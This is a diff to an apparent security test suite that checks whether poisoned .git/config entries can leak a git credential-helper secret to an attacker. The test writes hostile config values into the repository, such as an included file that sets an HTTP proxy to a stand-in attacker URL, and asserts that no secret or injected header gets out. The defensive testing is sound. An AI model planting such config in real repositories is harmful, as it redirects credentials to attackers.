@@ -177,7 +177,14 @@ describe('a poisoned repository', () => {
     ['an included file', (url) => `[include]\npath = ../../included\n#${url}\n`],
   ];
 
-  test.each(lines)('%s in .git/config brings no secret to the attacker', async (_case, poison) => {
+  /** These send git to the attacker, who gets no answer out of the credential helper. */
+  const elsewhere = new Set([
+    'another address for the repository',
+    'another address for the instance',
+    'another address for pushes',
+  ]);
+
+  test.each(lines)('%s in .git/config brings no secret to the attacker', async (name, poison) => {
     const newOid = await commit();
     const config = join(repository, '.git/config');
     writeFileSync(join(project, 'included'), `[http]\nproxy = ${evilUrl}\n`);
@@ -194,7 +201,9 @@ describe('a poisoned repository', () => {
       expect(everything).not.toContain(secret);
       expect(everything).not.toContain(Buffer.from(`notelab:${secret}`).toString('base64'));
     }
-    console.log(_case, world.records.at(-1)!.refs[0]?.newOid === newOid, heard.length);
+    expect(world.records.at(-1)?.refs[0]?.newOid === newOid, 'the push reached GitLab').toBe(
+      !elsewhere.has(name),
+    );
     const sent = world.upstream.requests.map(({ headers }) => headers);
     expect(sent.some((headers) => 'x-evil' in headers || 'cookie' in headers)).toBe(false);
   });
